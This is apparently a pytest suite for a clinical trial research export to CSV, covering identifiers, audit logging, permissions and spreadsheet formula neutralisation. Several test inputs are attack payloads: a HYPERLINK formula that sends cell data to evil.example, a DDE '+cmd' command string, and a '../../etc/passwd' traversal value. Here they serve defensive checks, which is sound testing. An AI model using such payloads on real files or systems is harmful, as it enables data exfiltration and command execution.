"""The research export: the round trip of the CSV against the database, the data dictionary, formula
neutralisation, identifiers and the study code, who may export, and the audit row of every export."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import UTC, datetime, time
from decimal import Decimal
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select

from server.assessments.instruments import ITEMS
from server.assessments.models import Assessment
from server.audit.models import AuditEvent
from server.auth.models import User
from server.dosing.models import DoseAdministration, Observation
from server.exports.csvfiles import DICTIONARY_COLUMNS, REPEAT_COLUMNS, neutralise
from server.exports.records import trial_code
from server.extensions import db
from server.trials.models import Trial, TrialDay
from tests.conftest import app_with
from tests.exports.conftest import export, read_csv, unzip

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
DATA_FILES = ("trials.csv", "days.csv", "measurements.csv", "doses.csv", "observations.csv", "decisions.csv",
              "goals.csv", "ratings.csv")


def _seconds(at: datetime) -> str:
    return at.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S")


def _enrich(app: Flask, demo: dict[str, int], make_user: Any) -> None:
    """Beyond the demo: an assessment corrected twice, a dose amended, a dose voided, and observations whose
    notes look like formulas, all through the services."""
    from server.assessments.services import correct_assessment
    from server.dosing.services import amend_dose, record_observation, void_dose
    from server.web.clock import local_to_utc

    second_nurse = make_user("nurse")
    with app.app_context():
        surgeon = db.session.scalar(select(User.id).where(User.username == "surgeon"))
        pt = db.session.scalar(select(User.id).where(User.username == "pt"))
        ben = db.session.get(Trial, demo["DEMO-1002"])
        baseline = db.session.scalars(select(Assessment).where(Assessment.trial_id == ben.id,
                                                               Assessment.phase == "baseline")).first()
        for grade in ("3", "4"):
            latest = db.session.scalars(select(Assessment).where(Assessment.trial_id == ben.id).order_by(
                Assessment.id.desc())).first()
            values = {**baseline.values, "mas.hip_flexors.left": grade}
            correct_assessment(latest.id, {"values": values, "not_tested": baseline.not_tested, "notes": None},
                               reason="Scored the wrong side first", author_id=pt,
                               recorded_at=datetime.now(UTC), entry_id=str(uuid.uuid4()))
        day1 = next(d for d in ben.days if d.day_number == 1)
        dose = db.session.scalar(select(DoseAdministration).where(DoseAdministration.trial_day_id == day1.id))
        local = dose.given_at.astimezone(local_to_utc(day1.date, time(9)).tzinfo)
        amend_dose(dose.id, {"given_time": local.time(), "dose_mcg": dose.dose_mcg, "override_reason": None,
                             "checked_by_id": second_nurse, "reason": "The second nurse double-checked it, not the "
                                                                     "first one on the list.",
                             "base_version": 1}, author_id=surgeon)
        chloe = db.session.get(Trial, demo["DEMO-1003"])
        chloe_day1 = next(d for d in chloe.days if d.day_number == 1)
        voided = db.session.scalar(select(DoseAdministration).where(DoseAdministration.trial_day_id == chloe_day1.id))
        void_dose(voided.id, {"reason": "Recorded on the wrong child's chart, the dose went elsewhere.",
                              "base_version": 1}, author_id=surgeon)
        nurse = db.session.scalar(select(User.id).where(User.username == "nurse"))
        for notes in ("=1+1", "-2+3 mmHg drop", "@SUM(A1)"):
            record_observation({"trial_day_id": day1.id, "taken_at": None, "heart_rate": 88, "resp_rate": None,
                                "spo2": None, "bp_systolic": None, "bp_diastolic": None, "temperature_c": None,
                                "sedation_score": None, "pain_score": None, "effects": ["headache"], "notes": notes},
                               author_id=nurse, entry_id=str(uuid.uuid4()),
                               recorded_at=local_to_utc(day1.date, time(10, 30)))
        db.session.commit()


def _expected_measurements(codes: dict[int, str]) -> set[tuple[Any, ...]]:
    rows: set[tuple[Any, ...]] = set()
    superseded = select(Assessment.supersedes_id).where(Assessment.supersedes_id.is_not(None))
    for a in db.session.scalars(select(Assessment).where(Assessment.id.not_in(superseded))):
        day = db.session.get(TrialDay, a.trial_day_id).day_number
        key = (codes[a.trial_id], a.chain_id, a.version, day, a.phase)
        for name, value in a.values.items():
            rows.add((*key, name, "value", value if isinstance(value, str) else Decimal(str(value)), ""))
        for item_id, nt in a.not_tested.items():
            item = ITEMS[item_id]
            for side in (nt["sides"] if item.sided else [None]):
                for m in item.measures:
                    rows.add((*key, item.field(side, m.key), "not_tested", "", nt["reason"]))
    return rows


def test_round_trip_gives_exactly_the_measurements_doses_and_observations(app, client, signed_in, demo, make_user):
    _enrich(app, demo, make_user)
    signed_in("admin")
    files = unzip(export(client).data)
    with app.app_context():
        codes = {t.id: trial_code(t) for t in db.session.scalars(select(Trial))}
        names = dict(db.session.execute(select(User.id, User.username)).all())
        days = {d.id: d.day_number for d in db.session.scalars(select(TrialDay))}
        trial_of = {d.id: d.trial_id for d in db.session.scalars(select(TrialDay))}

        measurements = read_csv(files["measurements.csv"])
        got = {(r["record_id"], int(r["meas_assessment"]), int(r["meas_version"]), int(r["meas_day"]), r["meas_phase"],
                r["meas_field"], r["meas_status"],
                Decimal(r["meas_raw"]) if r["meas_coding"] == "as_recorded" else r["meas_raw"],
                r["meas_not_tested_reason"]) for r in measurements}
        expected = _expected_measurements(codes)
        assert got == expected
        assert len(measurements) == len(expected) > 100
        assert max(int(r["meas_version"]) for r in measurements) == 3  # the corrected one, as corrected

        doses = read_csv(files["doses.csv"])
        expected_doses = {
            (codes[trial_of[d.trial_day_id]], days[d.trial_day_id], d.version, d.status, _seconds(d.given_at),
             d.dose_mcg, d.volume_ml, d.concentration_mcg_per_ml, d.route, names[d.given_by_id],
             names[d.checked_by_id], d.correction_reason or "")
            for d in db.session.scalars(select(DoseAdministration))}
        status = {"given": "given", "amended": "given", "voided": "entered_in_error"}
        assert {(r["record_id"], int(r["dose_day"]), int(r["dose_version"]), status[r["dose_status"]],
                 r["dose_given_at"], Decimal(r["dose_mcg"]), Decimal(r["dose_volume_ml"]),
                 Decimal(r["dose_concentration"]), r["dose_route"], r["dose_given_by"], r["dose_checked_by"],
                 r["dose_correction_reason"]) for r in doses} == expected_doses
        assert len(doses) == len(expected_doses)
        assert sorted(r["dose_status"] for r in doses if r["dose_version"] == "2") == ["amended", "voided"]

        observations = read_csv(files["observations.csv"])
        vitals = ("heart_rate", "resp_rate", "spo2", "bp_systolic", "bp_diastolic", "temperature_c",
                  "sedation_score", "pain_score")
        expected_obs = {
            (codes[trial_of[o.trial_day_id]], days[o.trial_day_id], _seconds(o.taken_at),
             *(getattr(o, v) for v in vitals), frozenset(o.effects), neutralise(o.notes or ""), names[o.author_id])
            for o in db.session.scalars(select(Observation))}
        assert {(r["record_id"], int(r["obs_day"]), r["obs_taken_at"],
                 *(Decimal(r[f"obs_{v}"]) if r[f"obs_{v}"] else None for v in vitals),
                 frozenset(k.removeprefix("obs_eff_") for k, v in r.items() if k.startswith("obs_eff_") and v == "1"),
                 r["obs_notes"], r["obs_by"]) for r in observations} == expected_obs
        assert len(observations) == len(expected_obs) > 20
        assert {"'=1+1", "'-2+3 mmHg drop", "'@SUM(A1)"} <= {r["obs_notes"] for r in observations}


def test_numeric_values_and_the_coding_used(app, client, signed_in, build_trial):
    trial_id = build_trial(days=1)
    signed_in("surgeon")
    rows = read_csv(export(client, trial_id=str(trial_id), file="measurements").get_data(as_text=True))
    by_field = {(r["meas_phase"], r["meas_field"]): r for r in rows}
    mas = by_field[("baseline", "mas.hip_adductors.right")]
    assert (mas["meas_raw"], mas["meas_numeric"], mas["meas_coding"]) == ("1+", "1.5", "ashworth_0_4")
    angle = by_field[("baseline", "tardieu.gastrocnemius.left.r1")]  # a negative number stays a number
    assert (angle["meas_raw"], angle["meas_numeric"], angle["meas_coding"], angle["meas_unit"]) == (
        "-15", "-15", "as_recorded", "degrees")
    quality = by_field[("baseline", "tardieu.gastrocnemius.left.quality")]
    assert (quality["meas_numeric"], quality["meas_coding"]) == ("2", "grade")
    standing = by_field[("baseline", "function.standing")]
    assert (standing["meas_raw"], standing["meas_numeric"], standing["meas_coding"]) == ("with_support", "1", "order")
    walk = by_field[("post_dose", "gait.walk_10m_seconds")]
    assert (walk["meas_raw"], walk["meas_numeric"], walk["meas_minutes_after_dose"]) == ("12.5", "12.5", "240")
    assert by_field[("baseline", "mas.hip_adductors.left")]["meas_minutes_after_dose"] == "-60"
    soleus = by_field[("baseline", "mas.soleus.left")]
    assert (soleus["meas_status"], soleus["meas_raw"], soleus["meas_not_tested_reason"]) == (
        "not_tested", "", "Cast on the left leg")


@pytest.mark.parametrize("identifiers", [False, True])
def test_the_dictionary_lists_every_column_of_every_file(client, signed_in, demo, identifiers):
    signed_in("admin")
    files = unzip(export(client, **({"include_identifiers": "1"} if identifiers else {})).data)
    assert set(files) == {*DATA_FILES, "dictionary.csv"}
    dictionary = read_csv(files["dictionary.csv"])
    assert list(dictionary[0]) == list(DICTIONARY_COLUMNS)
    variables = [row["Variable / Field Name"] for row in dictionary]
    assert len(variables) == len(set(variables))  # REDCap: each variable once per project
    assert variables[0] == "record_id"
    assert all(re.fullmatch(r"[a-z][a-z0-9_]*", v) for v in variables)
    form_of = {row["Variable / Field Name"]: row["Form Name"] for row in dictionary}
    columns: set[str] = set()
    for name in DATA_FILES:
        cols = next(csv.reader(io.StringIO(files[name])))
        own = [c for c in cols if c not in REPEAT_COLUMNS and c != "record_id"]
        assert all(form_of[c] == name.removesuffix(".csv") for c in own), name
        assert "record_id" in cols
        if name != "trials.csv":
            assert cols[:3] == ["record_id", *REPEAT_COLUMNS]  # REDCap's repeating-instrument columns
        columns |= set(cols)
    assert set(variables) == columns - set(REPEAT_COLUMNS)
    rows = {row["Variable / Field Name"]: row for row in dictionary}
    assert all(row["Field Annotation"].startswith("Source: ") for row in dictionary)
    assert rows["dose_mcg"]["Field Note"].startswith("Unit: mcg") and rows["dose_mcg"]["Field Label"] == "Dose (mcg)"
    assert rows["obs_temperature_c"]["Text Validation Type OR Show Slider Number"] == "number"
    assert rows["obs_taken_at"]["Text Validation Type OR Show Slider Number"] == "datetime_seconds_ymd"
    assert rows["meas_phase"]["Choices, Calculations, OR Slider Labels"] == "baseline, Baseline | post_dose, Post-dose"
    assert {v for v, row in rows.items() if row["Identifier?"] == "y"} == (
        {"first_name", "last_name", "mrn", "date_of_birth"} if identifiers else set())


def test_a_name_beginning_with_equals_is_neutralised(app, client, signed_in, make_patient, make_trial):
    patient = make_patient(first_name=FORMULA_NAME, last_name="+cmd|' /C calc'!A0", mrn="MRN-778899")
    make_trial(patient_id=patient)
    signed_in("admin")
    raw = export(client, file="trials", include_identifiers="1").get_data(as_text=True)
    [row] = read_csv(raw)
    assert row["first_name"] == "'" + FORMULA_NAME
    assert row["last_name"] == "'+cmd|' /C calc'!A0"
    assert row["mrn"] == "MRN-778899"
    # Every cell of every file: nothing a spreadsheet would run, and negative numbers left as numbers.
    files = unzip(export(client, include_identifiers="1").data)
    for text in files.values():
        for line in read_csv(text):
            for value in line.values():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), value
                assert not value.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", value), value


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-15", "-15"), ("-2.5", "-2.5"), ("12", "12"), ("1+", "1+"), ("a=b", "a=b"), ("", ""), ("-", "'-"),
    ("-1e5", "'-1e5"), ("'=x", "'=x"),
])
def test_neutralise(cell, written):
    assert neutralise(cell) == written


def test_identifiers_only_when_the_admin_ticks_the_box(app, client, signed_in, make_patient, make_trial):
    patient = make_patient(first_name="Zoe", last_name="Quartermaine", mrn="MRN-424242")
    trial_id = make_trial(patient_id=patient)
    signed_in("admin")
    plain = unzip(export(client).data)
    identifiers = ("Zoe", "Quartermaine", "MRN-424242", "2018-03-14")
    assert not any(word in text for text in plain.values() for word in identifiers)
    [row] = read_csv(plain["trials.csv"])
    assert re.fullmatch(r"ITB-[A-Z2-7]{10}", row["study_code"]) and row["record_id"] == row["study_code"] + "-1"
    assert "first_name" not in row and row["age_at_start"].isdigit()
    named = read_csv(unzip(export(client, include_identifiers="1").data)["trials.csv"])[0]
    assert (named["first_name"], named["last_name"], named["mrn"], named["date_of_birth"]) == (
        "Zoe", "Quartermaine", "MRN-424242", "2018-03-14")
    assert named["study_code"] == row["study_code"]  # stable from one export to the next
    with app.app_context():
        events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export")
                                    .order_by(AuditEvent.id)).all()
    assert [(e.entity_type, e.entity_id, e.after["identifiers"], e.after["trials"]) for e in events] == [
        ("Trial", "all", False, [trial_id]), ("Trial", "all", True, [trial_id])]
    assert events[0].actor_id is not None and events[0].after["file"].endswith(".zip")


def test_the_study_code_needs_the_servers_key(database_url, make_patient, make_trial, app):
    from server.exports.study import study_code
    from server.trials.models import Patient

    patient_id = make_patient(mrn="MRN-555")
    with app.app_context():
        patient = db.session.get(Patient, patient_id)
        code = study_code(patient)
        assert code == study_code(patient)
        assert "555" not in code
    codes = {}
    for key, study_key in (("another-secret", ""), ("another-secret", "kept"), ("third-secret", "kept")):
        for other in app_with(database_url, SECRET_KEY=key, STUDY_CODE_KEY=study_key):
            with other.app_context():
                codes[(key, study_key)] = study_code(db.session.get(Patient, patient_id))
            break
    assert codes[("another-secret", "")] != code  # another server key: another code
    assert codes[("another-secret", "kept")] == codes[("third-secret", "kept")]  # STUDY_CODE_KEY survives a rotation


def test_one_trial_and_one_file(client, signed_in, build_trial):
    first = build_trial(days=1)
    build_trial(days=2)
    signed_in("surgeon")
    response = export(client, trial_id=str(first), file="doses")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    assert re.fullmatch(rf'attachment; filename="itb-research-trial-{first}-\d{{8}}-\d{{4}}-doses\.csv"',
                        response.headers["Content-Disposition"])
    assert len(read_csv(response.get_data(as_text=True))) == 1


def test_a_surgeon_exports_without_identifiers_only(app, client, signed_in, build_trial):
    build_trial()
    signed_in("surgeon")
    page = client.get("/exports").get_data(as_text=True)
    assert 'name="trial_id"' in page and "include_identifiers" not in page
    assert export(client, include_identifiers="1").status_code == 403
    assert export(client).status_code == 200
    with app.app_context():
        assert [e.after["identifiers"] for e in db.session.scalars(select(AuditEvent).where(
            AuditEvent.action == "export"))] == [False]


@pytest.mark.parametrize("role", ["pt", "nurse"])
def test_other_roles_may_not_export(client, signed_in, role):
    signed_in(role)
    assert client.get("/exports").status_code == 403
    assert export(client).status_code == 403


@pytest.mark.parametrize(("form", "field", "message"), [
    ({"trial_id": "abc"}, "trial_id", "Choose a trial from the list."),
    ({"trial_id": "99999"}, "trial_id", "No such trial: choose one from the list."),
    ({"file": "../../etc/passwd"}, "file", "Choose a file from the list."),
    ({"include_identifiers": "maybe"}, "include_identifiers", "Tick the box, or leave it empty."),
])
def test_bad_input_is_refused_beside_the_field(app, client, signed_in, form, field, message):
    from tests.conftest import field_error

    signed_in("admin")
    response = export(client, **form)
    assert response.status_code == 422
    assert field_error(response.get_data(as_text=True), field) == message
    with app.app_context():
        assert db.session.scalar(select(AuditEvent.id).where(AuditEvent.action == "export")) is None

